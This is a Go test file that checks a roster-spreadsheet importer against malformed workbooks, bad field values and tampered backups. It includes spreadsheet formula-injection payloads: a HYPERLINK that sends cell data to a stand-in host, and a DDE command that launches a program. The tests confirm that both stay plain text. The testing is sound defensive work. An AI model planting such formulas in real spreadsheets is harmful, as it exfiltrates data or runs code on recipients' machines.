package sheet

import (
	"bytes"
	"context"
	"database/sql"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"

	"zhengxie/data"
	"zhengxie/data/backup/seal"
	"zhengxie/data/datatest"
)

// Formula-looking texts: a link that phones home, arithmetic, and the
// classic DDE payload that starts a program when a sheet opens it live.
const (
	formulaLink = `=HYPERLINK("http://evil.example/?x="&A1,"点此查看")`
	formulaSum  = "=1+1"
	formulaDDE  = `=cmd|' /C calc'!A0`
)

func hostileCases() []hostileCase {
	fixed := func(b []byte) func(testing.TB) []byte { return func(testing.TB) []byte { return b } }
	roster := func(rows ...[]any) func(testing.TB) []byte {
		return func(t testing.TB) []byte { return rosterBook(t, rows...) }
	}
	cases := []hostileCase{
		// Files that are no workbook at all.
		{desc: "roster: truncated xlsx", kind: rosterFile, name: "名册.xlsx",
			file: func(t testing.TB) []byte { b := rosterBook(t, member(1, "")); return b[:len(b)/2] }, wantErr: "不是有效的 Excel"},
		{desc: "roster: random bytes named .xlsx", kind: rosterFile, name: "名册.xlsx",
			file: fixed(randomBytes(20000)), wantErr: "不是有效的 Excel"},
		{desc: "roster: a zip without workbook.xml", kind: rosterFile, name: "名册.xlsx",
			file: func(t testing.TB) []byte {
				return zipOf(t, map[string]string{"[Content_Types].xml": "<Types/>", "xl/worksheets/sheet1.xml": "<worksheet/>"})
			}, wantErr: "不是有效的 Excel"},
		{desc: "roster: a UTF-8 CSV renamed .xlsx", kind: rosterFile, name: "名册.xlsx",
			file: fixed([]byte("姓名,性别,界别\n张三,男,经济界\n")), wantErr: "不是有效的 Excel"},
		{desc: "roster: a GBK CSV renamed .xlsx", kind: rosterFile, name: "名册.xlsx",
			file: fixed(gbkCSV), wantErr: "不是有效的 Excel"},
		{desc: "roster: an .xls renamed .xlsx", kind: rosterFile, name: "名册.xlsx",
			file: fixed(oldXLS()), wantErr: "旧版 Excel（.xls）"},
		{desc: "roster: an empty file", kind: rosterFile, name: "名册.xlsx",
			file: fixed(nil), wantErr: "不是有效的 Excel"},
		// Workbooks with the wrong shape.
		{desc: "roster: wrong headers", kind: rosterFile, name: "名册.xlsx",
			file: func(t testing.TB) []byte {
				b := newSheet(t, "Sheet1")
				b.row(1, "Name", "Sex", "Group")
				b.row(2, "张三", "男", "经济界")
				return b.bytes()
			}, wantErr: "没有找到表头"},
		{desc: "roster: empty workbook", kind: rosterFile, name: "名册.xlsx",
			file: func(t testing.TB) []byte { return newSheet(t, "Sheet1").bytes() }, wantErr: "没有找到表头"},
		{desc: "roster: only a header", kind: rosterFile, name: "名册.xlsx",
			file: roster(), wantErr: "没有委员数据"},
		{desc: "roster: the roster only on a hidden sheet", kind: rosterFile, name: "名册.xlsx",
			file: func(t testing.TB) []byte {
				b := newSheet(t, "封面")
				b.set("A1", "委员名册")
				b.addSheet("隐藏")
				b.row(1, rosterHeader...)
				b.row(2, member(1, "")...)
				if err := b.f.SetSheetVisible("隐藏", false); err != nil {
					t.Fatal(err)
				}
				return b.bytes()
			}, wantErr: "没有找到表头"},
		{desc: "roster: header cells merged over all columns", kind: rosterFile, name: "名册.xlsx",
			file: func(t testing.TB) []byte {
				b := newSheet(t, "委员名册")
				b.row(1, rosterHeader...)
				b.merge("A1", "I1")
				b.row(2, member(1, "")...)
				return b.bytes()
			}, wantErr: "没有找到表头"},
		// Row-level problems.
		{desc: "roster: bad 身份证号 check digit", kind: rosterFile, name: "名册.xlsx",
			file: roster(member(1, ""), []any{2, "委员002", "男", "经济界", badID(2), "1975-03"}), wantIssue: "3 身份证号"},
		{desc: "roster: the same 身份证号 twice in one sheet", kind: rosterFile, name: "名册.xlsx",
			file: roster(member(1, ""), []any{2, "委员002", "男", "经济界", validID(1), "1975-03"}), wantIssue: "3 身份证号"},
		{desc: "roster: 出生年月 2026-02-30", kind: rosterFile, name: "名册.xlsx",
			file: roster([]any{1, "委员001", "男", "经济界", "", "2026-02-30"}), wantIssue: "2 出生年月"},
		{desc: "roster: negative number as 出生年月", kind: rosterFile, name: "名册.xlsx",
			file: roster([]any{1, "委员001", "男", "经济界", "", -1975}), wantIssue: "2 出生年月"},
		{desc: "roster: negative number as 联系电话", kind: rosterFile, name: "名册.xlsx",
			file: roster([]any{1, "委员001", "男", "经济界", "", "1975-03", -13800000000}), wantIssue: "2 联系电话"},
		{desc: "roster: a 40,000-character 工作单位及职务", kind: rosterFile, name: "名册.xlsx",
			file:      roster([]any{1, "委员001", "男", "经济界", "", "1975-03", "", strings.Repeat("长", 40000)}),
			wantIssue: "2 工作单位及职务"},
		{desc: "roster: invalid UTF-8 in a cell", kind: rosterFile, name: "名册.xlsx",
			file: func(t testing.TB) []byte {
				return patchZip(t, rosterBook(t, member(1, "INVALIDUTF8")), "xl/", "INVALIDUTF8", "\xff\xfe\xc3")
			}, wantErr: "没有找到表头"}, // the shared strings do not parse: no cell has text
		// Formulas: text that looks like one stays text, a live formula is
		// never evaluated, and neither is written back as a formula.
		{desc: "roster: formula texts (=HYPERLINK, =1+1, DDE) stay text, exported as strings", kind: rosterFile,
			name: "名册.xlsx",
			file: roster(member(1, formulaLink), member(2, formulaSum), member(3, formulaDDE)),
			imported: func(t *testing.T, c *importCounty) {
				checkRosterNotes(t, c, formulaLink, formulaSum, formulaDDE)
			}},
		{desc: "roster: a live formula cell is not evaluated", kind: rosterFile, name: "名册.xlsx",
			file: func(t testing.TB) []byte {
				b := newSheet(t, "委员名册")
				b.row(1, rosterHeader...)
				b.row(2, member(1, "")[:8]...)
				if err := b.f.SetCellFormula("委员名册", "I2", "1+1"); err != nil {
					t.Fatal(err)
				}
				return b.bytes()
			},
			imported: func(t *testing.T, c *importCounty) { checkRosterNotes(t, c, "") }},
	}
	cases = append(cases, ledgerCases()...)
	cases = append(cases, sheetCases()...)
	cases = append(cases, ruleCases()...)
	cases = append(cases, ruleBoundCases()...)
	return append(cases, backupCases()...)
}

// checkRosterNotes wants the imported members' 备注 in order, and a roster
// export that writes them as plain strings, never as formulas.
func checkRosterNotes(t *testing.T, c *importCounty, notes ...string) {
	t.Helper()
	ms, err := c.s.ListMembers(c.ctx, data.MemberFilter{TermID: c.term.ID})
	if err != nil {
		t.Fatal(err)
	}
	var got []string
	var imported []data.Member
	for _, m := range ms {
		if strings.HasPrefix(m.Name, "委员") {
			got = append(got, m.Note)
			imported = append(imported, m)
		}
	}
	if strings.Join(got, "|") != strings.Join(notes, "|") {
		t.Fatalf("stored 备注 %q, want %q", got, notes)
	}
	var buf bytes.Buffer
	if err := WriteRoster(&buf, RosterDoc{Title: "名册", Members: imported, Fields: data.RosterFields}); err != nil {
		t.Fatal(err)
	}
	checkNoFormulas(t, buf.Bytes(), notes)
}

// checkNoFormulas wants no formula cell in an exported workbook, and each
// of texts (that are not empty) in some cell as a string.
func checkNoFormulas(t *testing.T, xlsx []byte, texts []string) {
	t.Helper()
	f, err := excelize.OpenReader(bytes.NewReader(xlsx))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	found := map[string]bool{}
	for _, sh := range f.GetSheetList() {
		rows, _ := f.GetRows(sh)
		for r, row := range rows {
			for col, v := range row {
				ref, _ := excelize.CoordinatesToCellName(col+1, r+1)
				if fm, _ := f.GetCellFormula(sh, ref); fm != "" {
					t.Errorf("%s!%s exported as the formula %q", sh, ref, fm)
				}
				if typ, _ := f.GetCellType(sh, ref); v != "" && strings.HasPrefix(v, "=") &&
					typ != excelize.CellTypeSharedString && typ != excelize.CellTypeInlineString {
					t.Errorf("%s!%s %q exported with cell type %v, want a string", sh, ref, v, typ)
				}
				found[v] = true
			}
		}
	}
	for _, x := range texts {
		if x != "" && !found[x] {
			t.Errorf("export lacks the text %q", x)
		}
	}
}

// countyBackup is a sound backup of a county database, as bytes.
func countyBackup(t testing.TB) []byte {
	s, _ := datatest.County(t)
	path := filepath.Join(t.TempDir(), "备份.db")
	if err := s.BackupTo(context.Background(), path); err != nil {
		t.Fatal(err)
	}
	b, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	return b
}

// newerBackup is a backup whose user_version is beyond this program's.
func newerBackup(t testing.TB) []byte {
	path := filepath.Join(t.TempDir(), "新版.db")
	if err := os.WriteFile(path, countyBackup(t), 0o644); err != nil {
		t.Fatal(err)
	}
	db, err := sql.Open("sqlite", "file:"+filepath.ToSlash(path))
	if err != nil {
		t.Fatal(err)
	}
	if _, err := db.Exec("PRAGMA user_version = 9999"); err != nil {
		t.Fatal(err)
	}
	db.Close()
	b, _ := os.ReadFile(path)
	return b
}

// sealedFlipped is an encrypted backup with one byte of its payload changed.
func sealedFlipped(t testing.TB) []byte {
	dir := t.TempDir()
	plain, sealed := filepath.Join(dir, "备份.db"), filepath.Join(dir, "备份.db"+seal.Ext)
	if err := os.WriteFile(plain, countyBackup(t), 0o644); err != nil {
		t.Fatal(err)
	}
	old := seal.WorkFactor
	seal.WorkFactor = 10 // scrypt at 2^18 costs seconds; the damage is found either way
	defer func() { seal.WorkFactor = old }()
	if err := seal.Seal(plain, sealed, "正确的密码123"); err != nil {
		t.Fatal(err)
	}
	b, _ := os.ReadFile(sealed)
	b[len(b)-len(b)/3] ^= 0x01
	return b
}

func backupCases() []hostileCase {
	return []hostileCase{
		{desc: "backup: a text file", kind: backupFile, name: "备份.db",
			file: func(testing.TB) []byte { return []byte("这不是数据库\n") }, wantErr: "不是“政协履职”的数据库"},
		{desc: "backup: a truncated SQLite file", kind: backupFile, name: "备份.db",
			file: func(t testing.TB) []byte { b := countyBackup(t); return b[:len(b)/2] }, wantErr: "已损坏"},
		{desc: "backup: SQLite header, then garbage", kind: backupFile, name: "备份.db",
			file:    func(testing.TB) []byte { return append([]byte("SQLite format 3\x00"), randomBytes(8192)...) },
			wantErr: "已损坏"},
		{desc: "backup: a database from a newer version (user_version 9999)", kind: backupFile, name: "备份.db",
			file: newerBackup, wantErr: "更新版本"},
		{desc: "sealed backup: one byte flipped", kind: sealedFile, name: "备份.db.age",
			file: sealedFlipped, wantErr: "已损坏或被改动"},
		{desc: "sealed backup: the age header, then random bytes", kind: sealedFile, name: "备份.db.age",
			file:    func(testing.TB) []byte { return append([]byte("age-encryption.org/v1\n"), randomBytes(4096)...) },
			wantErr: "已损坏或被改动"},
		{desc: "sealed backup: a plain text file", kind: sealedFile, name: "备份.db.age",
			file: func(testing.TB) []byte { return []byte("hello") }, wantErr: "不是“政协履职”的加密备份"},
	}
}
